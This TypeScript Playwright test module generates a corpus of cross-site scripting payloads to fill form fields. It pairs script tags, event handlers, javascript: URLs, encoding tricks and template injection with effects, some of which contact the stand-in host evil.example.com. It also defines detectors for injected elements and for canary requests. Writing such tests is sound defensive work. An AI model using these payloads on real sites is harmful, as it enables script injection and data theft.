/** Texts that would run, load or draw something if a page did not treat them as text, and what such a text leaves on a page. */
import type { Page } from '@playwright/test';

export const CANARY_HOST = 'evil.example.com';

/** What a text would do: `n` is the number of the text. */
const effects: ((n: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `confirm(${n})`,
  (n) => `prompt(${n})`,
  (n) => `ran=${n}`,
  (n) => `fetch('//${CANARY_HOST}/${n}')`,
  (n) => `new/**/Image().src='//${CANARY_HOST}/${n}'`,
  (n) => `import('//${CANARY_HOST}/${n}.js')`,
  (n) => `location='//${CANARY_HOST}/${n}'`,
  (n) => `eval('ran=${n}')`,
  (n) => `document.title='ran'+${n}`,
];
/** How it would come to run: `do` is the effect. */
const wrappings = [
  '<script>do</script>',
  '<img src=x onerror=do>',
  '"><svg onload=do>',
  `'><img src=x onerror="do">`,
  '<iframe srcdoc="<script>do</script>"></iframe>',
  '<body onload=do>',
  '<a href="javascript:do">clique</a>',
  'javascript:do',
  '[clique](javascript:do)',
  'data:text/html,<script>do</script>',
  'vbscript:do',
  'java\tscript:do',
  '&#106;avascript:do',
  '<details open ontoggle=do>',
  '<video><source onerror=do></video>',
  `<object data="//${CANARY_HOST}/o?do"></object>`,
  `<embed src="//${CANARY_HOST}/e?do">`,
  `<link rel=stylesheet href="//${CANARY_HOST}/l?do">`,
  `</title><style>*{background:url(//${CANARY_HOST}/s?do)}</style>`,
  `<base href="//${CANARY_HOST}/?do">`,
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}/?do">`,
  '<form><input autofocus onfocus=do></form>',
  '</textarea><img src=x onerror=do>',
  '--><img src=x onerror=do>',
  '<math><mtext><img src onerror=do></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=do>">',
  '{{constructor.constructor("do")()}}',
  '${do}',
  '&lt;script&gt;do&lt;/script&gt;',
  '\\u003cscript\\u003edo\\u003c/script\\u003e',
];

export const hostileTexts: readonly string[] = wrappings.flatMap((wrapping, at) =>
  effects.map((effect, n) => wrapping.replace('do', () => effect(at * effects.length + n))),
);

/** Hands out the texts in turn: the next ones that fit into a field of this length. */
export function createTextSource() {
  let given = 0;
  return {
    /** Number of fields filled. */
    filled: 0,
    next(maxLength: number, end = ''): string {
      this.filled += 1;
      for (;;) {
        const text = hostileTexts[given++ % hostileTexts.length]! + end;
        if (text.length <= maxLength) return text;
      }
    },
  };
}

/** Elements that only a hostile text can have created. */
export const unsafeElements = (page: Page): Promise<string[]> =>
  page.evaluate((host) => {
    const describeElement = (element: Element) =>
      `${element.tagName} ${element.getAttribute('href') ?? ''} ${element.textContent?.slice(0, 60) ?? ''}`;
    const all = <T extends Element>(selector: string) => [...document.querySelectorAll<T>(selector)];
    const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle'].map((name) => `[${name}]`).join();
    const isWrong = ({ textContent }: Element) => /alert|ran=/.test(textContent ?? '') || textContent?.includes(host);
    return [
      ...all(`iframe, object, embed, base, body style, body meta, body link[href*="${host}"], ${handlers}`),
      ...all('body script').filter(isWrong),
      ...all<HTMLAnchorElement>('a[href]').filter(({ protocol }) => !/^(?:https?|blob|mailto|tel):$/.test(protocol)),
      ...all<HTMLAnchorElement>('a[target="_blank"]').filter(
        ({ rel, origin }) => origin !== location.origin && !(rel.includes('noopener') && rel.includes('noreferrer')),
      ),
    ].map(describeElement);
  }, CANARY_HOST);

/** Everything that a hostile text has done so far: dialogs, and requests to the host that the texts name. */
export async function watchEffects(page: Page): Promise<string[]> {
  const effectsSeen: string[] = [];
  page.on('dialog', (box) => {
    effectsSeen.push(`dialog ${box.message()}`);
    void box.dismiss();
  });
  page.on('request', (request) => {
    const { hostname, pathname } = new URL(request.url());
    if (hostname === CANARY_HOST || pathname.endsWith('/x')) effectsSeen.push(`request ${request.url()}`);
  });
  await page.addInitScript(() =>
    Object.defineProperty(window, 'ran', {
      set(n) {
        prompt(`ran ${n}`);
      },
    }),
  );
  return effectsSeen;
}
